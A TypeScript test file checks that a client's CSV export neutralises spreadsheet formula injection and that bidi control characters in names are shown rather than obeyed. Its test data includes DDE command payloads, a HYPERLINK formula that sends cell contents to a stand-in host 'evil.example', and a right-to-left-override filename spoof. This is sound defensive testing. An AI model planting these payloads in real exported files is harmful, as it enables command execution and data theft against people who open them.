// How the client writes data it did not author: CSV cells that a spreadsheet would run as
// formulas are neutralised (OWASP), and bidi control characters are shown, never obeyed.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../client/src/panels/results';
import { showBidiControls } from '../../client/src/user-text';

describe('CSV export (formula injection)', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['＝1+1', "'＝1+1"],
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    ],
  ])('a cell starting a formula (%j) gets a leading quote', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves ordinary text and numbers, negative ones included, as they are', () => {
    expect(csvCell('APT31')).toBe('APT31');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(3.5)).toBe('3.5');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises lists, node names and column names too, and still quotes every field', () => {
    const csv = toCsv(
      ['=name', 'aliases'],
      [{ '=name': { name: '=1+1', id: 'actor:x' }, aliases: ['-x', 'y'] }],
    );
    expect(csv).toBe('"\'=name","aliases"\r\n"\'=1+1","\'-x, y"\r\n');
  });

  it('never lets any generated cell start with a formula character', () => {
    const risky = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '＝',
      '＋',
      '－',
      '＠',
      'a',
      ' ',
    );
    fc.assert(
      fc.property(risky, fc.string({ maxLength: 20 }), (first, rest) => {
        const cell = csvCell(first + rest);
        expect(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});

describe('bidi control characters in names', () => {
  it('writes each control out instead of obeying it', () => {
    expect(showBidiControls('\u202Egnp.exe')).toBe('⟨U+202E⟩gnp.exe');
    expect(showBidiControls('a\u2066b\u2069c\u200E\u200F\u061Cd\u202A\u202B\u202C\u202D')).toBe(
      'a⟨U+2066⟩b⟨U+2069⟩c⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩d⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩',
    );
  });

  it('leaves right-to-left letters and everything else alone', () => {
    for (const text of ['APT31', 'وزارة الخارجية', 'שלום', '中国', ''])
      expect(showBidiControls(text)).toBe(text);
  });

  it('leaves no control character in any text', () => {
    const controls = [
      0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f,
      0x061c,
    ];
    const piece = fc.oneof(
      fc.string({ maxLength: 5 }),
      fc.constantFrom(...controls.map((c) => String.fromCharCode(c))),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), (pieces) => {
        const shown = showBidiControls(pieces.join(''));
        for (const c of controls) expect(shown.includes(String.fromCharCode(c))).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});
